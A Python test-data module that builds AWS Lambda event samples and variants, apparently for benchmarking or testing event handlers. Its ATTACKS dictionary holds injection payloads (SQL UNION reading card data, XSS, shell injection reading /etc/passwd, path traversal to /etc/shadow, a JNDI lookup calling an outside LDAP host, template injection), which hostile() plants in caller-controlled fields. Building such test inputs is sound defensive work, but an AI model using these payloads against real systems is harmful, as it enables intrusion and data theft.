"""The events of the warm path: every source, each anew with all that a caller controls changed.

Bare dictionaries and standard library only: the rival's interpreter is fed the same events as JSON.
"""

from __future__ import annotations

import base64
import functools
import json
from pathlib import Path

if __package__:
    from .renewal import renewed
else:  # the rival's interpreter has these two files, and no package
    from renewal import renewed  # type: ignore[no-redef]

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Any

SAMPLES = Path(__file__).resolve().parents[2] / "tests" / "data" / "events"
# Name in the report: the sample, and how many records it is made of. A plain request has no token, cookie or body to be decoded.
KINDS = {
    "API Gateway REST": ("apigateway-rest.order", 0),
    "API Gateway REST, plain": ("apigateway-rest.order", 0),
    "HTTP API": ("apigateway-http.order", 0),
    "function URL": ("function-url.post", 0),
    "SQS, 1": ("sqs.orders", 1),
    "SQS, 10": ("sqs.orders", 10),
    "SQS, 100": ("sqs.orders", 100),
    "S3": ("s3.created", 0),
    "Kinesis, 100": ("kinesis.records", 100),
    "DynamoDB, 100": ("dynamodb.stream", 100),
}


def sample(kind: str, number: int = 0) -> dict[str, Any]:
    """An event of a kind; ``number`` 0 is the sample itself, every other one differs from it in all that a caller chooses."""
    event = json.loads(_written(kind))
    return renewed(event, number) if number else event


@functools.cache
def _written(kind: str) -> str:
    name, records = KINDS[kind]
    event = json.loads((SAMPLES / f"{name}.json").read_text())
    if records:
        first = event["Records"][0]
        # Records of one batch differ from each other as well.
        event["Records"] = [renewed(first, 7919 * at) if at else first for at in range(records)]
    if kind.endswith("plain"):
        for table in ("headers", "multiValueHeaders"):
            event[table] = {header: value for header, value in event[table].items() if header not in ("Authorization", "Cookie")}
        event["body"] = None
    return json.dumps(event)


ATTACKS = {
    "SQL": "{n}' UNION SELECT card, {n} FROM payments-- -",
    "HTML": "<img src={n} onerror=alert({n})>",
    "shell": "x{n}; cat /etc/passwd",
    "path": "../../../{n}/../etc/shadow",
    "JNDI": "${{jndi:ldap://203.0.113.66/{n}}}",
    "template": "{{{{{n}*7}}}}{{{{''.__class__.__mro__}}}}",
}


def hostile(kind: str, number: int, attack: str) -> dict[str, Any]:
    """An event all anew, with an attack where the caller's data is."""
    event, text = sample(kind, number), attack.format(n=number + 1000)
    records = event.get("Records")
    place = records[len(records) // 2] if records else event
    if "kinesis" in place:
        place["kinesis"]["data"] = base64.b64encode(json.dumps({"note": text}).encode()).decode()
    elif "dynamodb" in place:
        place["dynamodb"]["NewImage"]["customer"] = {"S": text}
    elif "s3" in place:
        from urllib.parse import quote_plus

        place["s3"]["object"]["key"] = quote_plus(text)
    else:
        place["body"] = json.dumps({"note": text})
        place.pop("isBase64Encoded", None)
    return event
